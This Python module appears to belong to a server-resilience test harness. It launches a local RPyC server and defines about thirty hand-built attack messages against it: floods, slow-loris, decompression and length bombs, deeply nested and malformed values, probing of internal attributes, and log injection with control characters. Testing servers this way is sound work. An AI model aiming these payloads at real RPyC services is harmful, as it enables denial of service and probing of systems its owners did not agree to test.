"""The adapter of RPyC's threaded server, with attacks in hand-written messages.

`python -m hostile.peer_rpyc plain DIRECTORY` runs the server. A message is a length, a compression
flag, a kind, and a tuple in RPyC's own encoding (brine). This module uses RPyC's encoder for
well-formed values.
"""

from __future__ import annotations

import ssl
import struct
import sys
import threading
import zlib
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any, Final

import rpyc
from rpyc.core import brine, consts
from rpyc.utils.authenticators import SSLAuthenticator
from rpyc.utils.server import ThreadedServer

from . import sockets
from .attacker import Attacker, Function, Line
from .attacks import Setting
from .bombs import packed_zeros
from .peer import PATIENCE, Call, Peer, Place, own_server

__all__ = ["PEER"]

_MANY: Final = 1000
_CONFIG: Final = {"sync_request_timeout": PATIENCE}
_NIL: Final = b"\x00"  # in brine


# --- the server ---


class _Victim(rpyc.Service):  # type: ignore[misc]  # RPyC has no types
    def exposed_echo(self, value: Any) -> Any:
        return value

    def exposed_hold(self) -> None:
        threading.Event().wait()

    def exposed_big(self) -> bytes:
        return bytes(2**20)

    def exposed_fail(self, text: str) -> None:
        raise ValueError(text)

    def exposed_object(self) -> object:
        return object()


def _serve(setting: Setting, directory: Path) -> None:
    pem = directory / "server.pem"
    authenticator = SSLAuthenticator(pem, pem) if setting == "tls" else None
    server = ThreadedServer(_Victim, "127.0.0.1", 0, authenticator=authenticator)
    print(f"ready: rpyc://127.0.0.1:{server.port}", flush=True)
    server.start()


@contextmanager
def _dial(place: Place) -> Iterator[Call]:
    if place.setting == "tls":
        authority = str(place.directory / "ca.pem")
        connection = rpyc.ssl_connect(
            place.host,
            place.port,
            ca_certs=authority,
            cert_reqs=ssl.CERT_REQUIRED,
            config=_CONFIG,
        )
    else:
        connection = rpyc.connect(place.host, place.port, config=_CONFIG)
    try:

        def call() -> None:
            assert connection.root.echo("good") == "good"

        yield call
    finally:
        connection.close()


# --- messages ---


def _packet(data: bytes, *, length: int | None = None, compressed: int = 0) -> bytes:
    return struct.pack("!LB", len(data) if length is None else length, compressed) + data + b"\n"


def _message(kind: int, body: bytes, *, compressed: bool = False) -> bytes:
    data = bytes((kind,)) + body
    return _packet(zlib.compress(data), compressed=1) if compressed else _packet(data)


def _request(handler: int, arguments: Any) -> bytes:
    return _message(consts.MSG_REQUEST, brine.dump((1, (handler, arguments))))


def _raw_request(value: bytes) -> bytes:
    """Make a request to echo (PING) a value that is already encoded."""
    pair = b"\x11"  # a tuple of two, in brine
    one, ping, by_value = (brine.dump(number) for number in (1, consts.HANDLE_PING, 1))
    arguments = b"\x10" + value  # a tuple of one
    body = pair + one + pair + ping + pair + by_value + arguments
    return _message(consts.MSG_REQUEST, body)


def _value(content: Any) -> tuple[int, Any]:
    return consts.LABEL_VALUE, content


_PING: Final = _request(consts.HANDLE_PING, _value((b"attacker",)))
_GETROOT: Final = _request(consts.HANDLE_GETROOT, _value(()))


def _receive(line: Line) -> bytes:
    length, compressed = struct.unpack("!LB", line.receive_exactly(5))
    data = line.receive_exactly(length + 1)[:-1]
    return zlib.decompress(data) if compressed else data


def _ready(attacker: Attacker, *, deaf: bool = False) -> tuple[Line, Any]:
    """Connect, and request the root object's ID. Returns the connection and the ID."""
    line = attacker.dial(4096 if deaf else None)
    line.send(_GETROOT, 0)
    while True:
        data = _receive(line)
        if data[0] == consts.MSG_REPLY:
            _, (_, root) = brine.load(data[1:])
            return line, root


def _call(root: Any, name: str, *args: Any) -> bytes:
    local = (consts.LABEL_LOCAL_REF, root)
    arguments = (local, _value(name), _value(args), _value(()))
    return _request(consts.HANDLE_CALLATTR, (consts.LABEL_TUPLE, arguments))


# --- attacks, named as in `attacks` ---


def _in_turn(*calls: tuple[str, tuple[Any, ...]]) -> Function:
    """Make an attack that sends calls in batches of a hundred, and reads all their answers."""

    def attack(attacker: Attacker) -> None:
        line, root = _ready(attacker)
        data = [_call(root, name, *args) for name, args in calls]
        while True:
            storm = [data[number % len(data)] for number in range(100)]
            line.send(b"".join(storm), len(storm))
            for _ in storm:
                _receive(line)

    return attack


def _values(*values: bytes) -> Function:
    """Make an attack that sends each encoded value on its own connection."""
    requests = [_raw_request(value) for value in values]

    def attack(attacker: Attacker) -> None:
        for request in requests:
            line, _ = _ready(attacker)
            line.send(request)
        attacker.hold(0.05)

    return attack


def _flood_of(data: bytes) -> Function:
    def attack(attacker: Attacker) -> None:
        line, _ = _ready(attacker, deaf=True)
        line.flood(data * _MANY, _MANY)

    return attack


def _results_unread(attacker: Attacker) -> None:
    for _ in range(10):
        line, root = _ready(attacker, deaf=True)
        line.send(_call(root, "big") * 1000, 1000)
    attacker.hold()


def _endless_messages(attacker: Attacker) -> None:
    line = attacker.dial()
    line.send(struct.pack("!LB", 2**32 - 1, 0))
    line.flood(bytes(2**20), 1)


def _decompression_bomb(attacker: Attacker) -> None:
    while True:
        line = attacker.dial()
        line.send(_packet(packed_zeros(), compressed=1))
        attacker.sleep(0.2)


def _names(attacker: Attacker) -> None:
    line, root = _ready(attacker)
    local = (consts.LABEL_LOCAL_REF, root)
    for name in (
        *dir(object),
        *dir(type),
        "__dict__",
        "__subclasses__",
        "_conn",
        "a\nb",
        "\x1b[31m",
    ):
        arguments = (consts.LABEL_TUPLE, (local, _value(name)))
        line.send(_request(consts.HANDLE_GETATTR, arguments))
        _receive(line)


def _tuple_of(count: int, element: bytes, promised: int | None = None) -> bytes:
    return b"\x15" + struct.pack("!L", count if promised is None else promised) + element * count


_INTEGERS: Final = b"".join(brine.dump(number << 40) for number in range(40_000))
_ODD_SET: Final = b"\x1a" + _tuple_of(0, b"", 40_000) + _INTEGERS
_HOLD: Final = _GETROOT + _PING * 50
_FUNCTIONS: Final[dict[str, Function]] = {
    "peace": sockets.peace,
    "refused calls": _in_turn(("no_such_method", ())),
    "ping flood": _flood_of(_PING),
    "second hello": _flood_of(_GETROOT),
    "late frames": _flood_of(_message(consts.MSG_REPLY, brine.dump((10**6, _value(None))))),
    "results unread": _results_unread,
    "empty frames": _flood_of(_packet(b"")),
    "endless messages": _endless_messages,
    "length bombs": sockets.say(struct.pack("!LB", 2**32 - 1, 0) + b"x", count=300, pause=0.5),
    "wrong protocols": sockets.wrong_protocols,
    "slow-loris": sockets.drip(_GETROOT),
    "slow-loris, admitted": sockets.drip(_PING, prefix=_GETROOT, count=200),
    "idle": sockets.idle,
    "broken promises": sockets.say(_PING[:-4], prefix=_GETROOT, count=300, pause=0.5),
    "depth": _values(b"\x10" * 60_000 + _NIL, b"\x10" * 1_000_000 + _NIL, b"\x1a" * 60_000 + _NIL),
    "lying lengths": _values(
        _tuple_of(0, b"", 2**32 - 1), b"\x0f\xff\xff\xff\xff", b"\x17\xff\xff\xff\xffx"
    ),
    "many values": _values(_tuple_of(2**21, _NIL)),
    "many containers": _values(_tuple_of(2**18, b"\x10\x00")),
    "keys": _values(_ODD_SET),
    "malformed values": _values(b"\x08\x0b\xff\xfe", b"\xff", b"", b"\x19\x00", b"\x18\x00"),
    "bad results": _in_turn(("object", ())),
    "names": _names,
    "log flood": _in_turn(("fail", ("two\nlines",)), ("fail", ("\x1b[31mred" * 100,))),
    "decompression bomb": _decompression_bomb,
    "half handshakes": sockets.half_handshakes,
    "connect and close": sockets.connect_and_close,
    "hoard": sockets.hoard(_GETROOT),
    "reset storm": sockets.reset_storm(_GETROOT, _HOLD, _PING[:-3], _PING * 500),
}

PEER: Final = Peer(
    "rpyc",
    lambda setting, directory: own_server("rpyc", setting, directory),
    _dial,
    _FUNCTIONS,
    frozenset(("plain", "tls")),
)

if __name__ == "__main__":
    _serve("tls" if sys.argv[1] == "tls" else "plain", Path(sys.argv[2]))
